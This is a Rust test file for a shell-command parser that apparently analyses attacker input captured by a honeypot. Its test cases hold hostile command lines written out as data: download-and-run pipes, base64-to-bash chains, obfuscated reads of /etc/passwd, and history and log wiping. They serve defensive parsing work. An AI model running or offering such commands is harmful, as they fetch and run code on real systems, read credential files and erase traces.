//! Lines as attackers type them, and the commands in them.

use vespid_shell::{Line, MAX_COMMANDS, MAX_WORDS, SimpleCommand, parse};

/// The commands of a line as `via, via: line`.
fn told(text: &str) -> Vec<String> {
    parse(text).commands.iter().map(tell).collect()
}

fn tell(command: &SimpleCommand) -> String {
    let via = command.via.join(", ");
    if via.is_empty() {
        command.line.as_str().to_owned()
    } else {
        format!("{via}: {}", command.line.as_str())
    }
}

fn last(text: &str) -> SimpleCommand {
    parse(text).commands.pop().unwrap_or_default()
}

#[test]
fn lists_pipes_and_groups_are_taken_apart() {
    for (text, commands) in [
        ("uname -a", vec!["uname -a"]),
        (
            "cd /tmp || cd /run; wget http://x/a && sh a &",
            vec!["cd /tmp", "cd /run", "wget http://x/a", "sh a"],
        ),
        ("cat /proc/cpuinfo | grep name | wc -l", vec!["cat /proc/cpuinfo", "grep name", "wc -l"]),
        ("(cd /tmp; ls) | sort", vec!["cd /tmp", "ls", "sort"]),
        ("{ id; w; } 2>/dev/null", vec!["id", "w", "2> /dev/null"]),
        ("id\nw\r\nps", vec!["id", "w", "ps"]),
        ("ls # and nothing; else", vec!["ls"]),
        ("echo a#b '#c'", vec!["echo a#b #c"]),
        ("  ;; id ;;", vec!["id"]),
    ] {
        assert_eq!(told(text), commands, "{text}");
    }
}

#[test]
fn quotes_and_escapes_go_and_their_content_stays() {
    for (text, line) in [
        ("echo 'a; b' \"c | d\"", "echo a; b c | d"),
        ("w\"g\"e't' http://x", "wget http://x"),
        ("c\\at /etc/pa\\\nsswd", "cat /etc/passwd"),
        ("echo \"a\\\"b\\$c\\d\"", "echo a\"b$c\\d"),
        ("echo $'\\x41\\102\\n\\'x'", "echo AB\n'x"),
        ("cat${IFS}/etc/passwd", "cat /etc/passwd"),
        ("cat$IFS$9/etc/passwd", "cat /etc/passwd"),
        ("echo ${HOME:-/root} $((1 + 2))", "echo ${HOME:-/root} $((1 + 2))"),
        ("echo 'never closed; id", "echo never closed; id"),
    ] {
        assert_eq!(told(text), [line], "{text}");
    }
}

#[test]
fn wrappers_come_off_and_stay_visible() {
    for (text, commands) in [
        ("sudo -u root wget x", vec!["sudo -u root wget x", "sudo: wget x"]),
        ("nohup ./a >/dev/null 2>&1 &", vec!["nohup ./a > /dev/null 2>&1", "nohup: ./a > /dev/null 2>&1"]),
        (
            "timeout -k 5 10 nice -n 19 ./m",
            vec!["timeout -k 5 10 nice -n 19 ./m", "timeout: nice -n 19 ./m", "timeout, nice: ./m"],
        ),
        ("env A=1 B=2 id", vec!["env A=1 B=2 id", "env: id"]),
        ("/bin/busybox wget -O - x", vec!["/bin/busybox wget -O - x", "busybox: wget -O - x"]),
        (
            "find / -name x -exec rm -f {} \\;",
            vec!["find / -name x -exec rm -f {} ;", "find -exec: rm -f {}"],
        ),
        ("ls | xargs -n 1 rm", vec!["ls", "xargs -n 1 rm", "xargs: rm"]),
        ("sh -c 'id; uname'", vec!["sh -c id; uname", "sh -c: id", "sh -c: uname"]),
        (
            "bash -lc \"sudo sh -c 'id'\"",
            vec![
                "bash -lc sudo sh -c 'id'",
                "bash -c: sudo sh -c id",
                "bash -c, sudo: sh -c id",
                "bash -c, sudo, sh -c: id",
            ],
        ),
        ("su - -c 'id'", vec!["su - -c id", "su -c: id"]),
        ("eval \"wget x\" '; id'", vec!["eval wget x ; id", "eval: wget x", "eval: id"]),
        ("sh <<EOF\nid\nEOF\nw", vec!["sh << EOF", "sh <<: id", "w"]),
        ("bash <<< 'id'", vec!["bash <<< id", "bash <<<: id"]),
    ] {
        assert_eq!(told(text), commands, "{text}");
    }
    for (text, inner) in [
        ("bash -o pipefail -c 'id'", "bash -c: id"),
        ("bash --rcfile /dev/null -c id", "bash -c: id"),
        ("sh -c -- 'id'", "sh -c: id"),
        ("su root --command='id'", "su -c: id"),
        ("su -s /bin/sh nobody -c id", "su -c: id"),
        ("trap 'id' EXIT", "trap: id"),
        ("flock -w 3 /tmp/l id", "flock: id"),
        ("flock /tmp/l -c 'id'", "flock -c: id"),
        ("script -qc 'id' /dev/null", "script -c: id"),
        ("sshpass -p x id", "sshpass: id"),
        ("screen -dmS x id", "screen: id"),
        ("coproc id", "id"),
        ("find / -exec true {} \\; -exec id {} +", "find -exec: id {}"),
    ] {
        assert_eq!(told(text).last().map(String::as_str), Some(inner), "{text}");
    }
    for text in [
        "trap - EXIT",
        "trap -l",
        "flock /tmp/l",
        "screen -ls",
        "sudo -l",
        "env",
        "sh x.sh -c y",
        "command -v curl",
        "su -",
        "busybox --list",
        "timeout 5",
    ] {
        assert_eq!(told(text), [text], "runs nothing it names");
    }
}

#[test]
fn substitutions_and_control_words_hide_nothing() {
    for (text, commands) in [
        (
            "echo $(curl -s x | sh) `id`",
            vec!["echo $(curl -s x | sh) `id`", "$(...): curl -s x", "$(...): sh", "`...`: id"],
        ),
        ("echo \"$(whoami)\"", vec!["echo $(whoami)", "$(...): whoami"]),
        ("bash <(curl x)", vec!["bash <(curl x)", "<(...): curl x"]),
        ("if [ -f x ]; then rm x; else id; fi", vec!["[ -f x ]", "rm x", "id"]),
        ("for i in 1 $(seq 3); do wget $i; done", vec!["$(...): seq 3", "wget $i"]),
        ("while true; do sleep 1; done", vec!["true", "sleep 1"]),
        (
            "case $(uname -m) in x86_64|amd64) wget a;; *) wget b;; esac; id",
            vec!["$(...): uname -m", "wget a", "wget b", "id"],
        ),
        ("echo $((1 + $(nproc)))", vec!["echo $((1 + $(nproc)))", "$(...): nproc"]),
        ("cat <<E\na $(id) `w`\nE\nps", vec!["cat << E", "$(...): id", "`...`: w", "ps"]),
        ("cat <<'E'\n$(id)\nE\nps", vec!["cat << E", "ps"]),
        ("f() { id; }; f", vec!["id", "f"]),
        ("function g { w; }", vec!["w"]),
    ] {
        assert_eq!(told(text), commands, "{text}");
    }
}

#[test]
fn a_command_knows_its_program_parent_and_pipeline() {
    let command = last("curl -s http://x/a | sudo tee /tmp/a | sh");
    assert_eq!(command.image.as_deref(), Some("/bin/sh"));
    assert_eq!(command.piped_from, ["/usr/bin/tee", "/usr/bin/sudo", "/usr/bin/curl"].map(Into::into));
    assert_eq!(command.parent_image, None);

    let command = last("sh -c 'echo aaa | base64 -d | bash'");
    assert_eq!(command.piped_from, ["/usr/bin/base64", "/usr/bin/echo"].map(Into::into));
    assert_eq!(command.parent_image.as_deref(), Some("/bin/sh"));

    assert_eq!(last("(id; curl x) | sh").piped_from, ["/usr/bin/curl", "/usr/bin/id"].map(Into::into));
    for text in [
        "(curl x;) | sh",
        "{ curl x; } | sh",
        "{ curl x; } 2>/dev/null | sh",
        "if true; then curl x; fi | sh",
        "while true; do curl x; done | sh",
        "case a in a) curl x;; esac | sh",
        "curl x | (sh)",
        "curl x | { cd /tmp; sh; }",
        "curl x | while read l; do sh; done",
    ] {
        let found = parse(text).commands.into_iter().find(|it| it.image.as_deref() == Some("/bin/sh"));
        let upstream = found.unwrap_or_default().piped_from;
        assert!(upstream.iter().any(|image| &**image == "/usr/bin/curl"), "{text}: {upstream:?}");
    }
    assert!(last("curl x; sh").piped_from.is_empty());
    assert_eq!(last("./x").image.as_deref(), Some("./x"));
}

#[test]
fn assignments_and_redirections_are_told_apart() {
    let command = last("HISTFILE=/dev/null PATH+=:/x unset HISTFILE A=b >> /root/.x 2>&1 < in");
    assert_eq!(command.assignments.len(), 2);
    let argv: Vec<_> = command.argv.iter().map(vespid_shell::Mapped::as_str).collect();
    assert_eq!(argv, ["unset", "HISTFILE", "A=b"]);
    let redirects: Vec<_> =
        command.redirects.iter().map(|it| (it.operator, it.target.as_str(), it.writes())).collect();
    assert_eq!(redirects, [(">>", "/root/.x", true), (">&", "1", false), ("<", "in", false)]);
    assert_eq!(
        command.line.as_str(),
        "HISTFILE=/dev/null PATH+=:/x unset HISTFILE A=b >> /root/.x 2>&1 < in"
    );
    assert_eq!(last("> /var/log/wtmp").argv.len(), 0);
    assert_eq!(last("> /var/log/wtmp").redirects[0].target.as_str(), "/var/log/wtmp");
}

/// Every range leads back to the typed bytes, through quotes and wrappers.
#[test]
fn bytes_are_found_again() {
    let text = "x=1; sudo sh -c \"cd /tmp; w'g'et http://192.0.2.1/a\" #";
    let command = last(text);
    assert_eq!(command.line.as_str(), "wget http://192.0.2.1/a");
    assert_eq!(&text[command.line.raw(0..4)], "w'g'et");
    assert_eq!(&text[command.line.raw(5..23)], "http://192.0.2.1/a");
    assert_eq!(&text[command.span.clone()], "w'g'et http://192.0.2.1/a");
}

#[test]
fn limits_cut_and_say_so() {
    let Line { commands, truncated } = parse(&"a;".repeat(MAX_COMMANDS + 1));
    assert_eq!((commands.len(), truncated), (MAX_COMMANDS, true));
    assert!(parse(&"$(".repeat(100)).truncated);
    for part in ["a ", "A=b ", ">a ", "2>&1 "] {
        let Line { commands, truncated } = parse(&part.repeat(10_000));
        let parts = commands.iter().map(|it| it.argv.len() + it.assignments.len() + it.redirects.len());
        assert!(truncated && parts.max().unwrap_or(0) <= MAX_WORDS, "{part}");
    }
    assert!(!parse("id; w").truncated);
    let long = format!("/{}/sh -c '{}'", "x".repeat(900_000), "a;".repeat(1000));
    let copied: usize =
        parse(&long).commands.iter().filter_map(|it| it.parent_image.as_ref()).map(|image| image.len()).sum();
    assert!(copied < 1 << 20, "{copied} bytes of names were copied");
}

/// A quadratic step would take hours here.
#[test]
fn a_megabyte_of_anything_is_read() {
    for piece in [
        "(",
        ")",
        "$(",
        "`",
        "\"",
        "'",
        "<<E\n",
        "a|",
        "sudo ",
        "sh -c ",
        "case x in ",
        "{ ",
        "\\",
        "${",
        "é(",
    ] {
        parse(&piece.repeat((1 << 20) / piece.len()));
    }
}

/// Every line of the bundled logs gives commands whose bytes lie in the line.
#[test]
fn real_lines_make_sense() {
    let log = concat!(env!("CARGO_MANIFEST_DIR"), "/../../data/samples/cowrie-a.json");
    let log = std::fs::read_to_string(log).unwrap();
    let mut seen = 0;
    for line in log.lines() {
        let event: serde_json::Value = serde_json::from_str(line).unwrap();
        if event["eventid"] == "cowrie.command.input" {
            let input = event["input"].as_str().unwrap();
            let parsed = parse(input);
            assert!(!parsed.truncated, "{input}");
            assert!(input.trim().is_empty() || !parsed.commands.is_empty(), "{input}");
            for command in parsed.commands {
                assert!(command.argv.is_empty() || command.image.is_some());
                assert!(input.get(command.span.clone()).is_some(), "{input}: {command:?}");
            }
            seen += 1;
        }
    }
    assert!(seen > 100, "the log has commands");
}
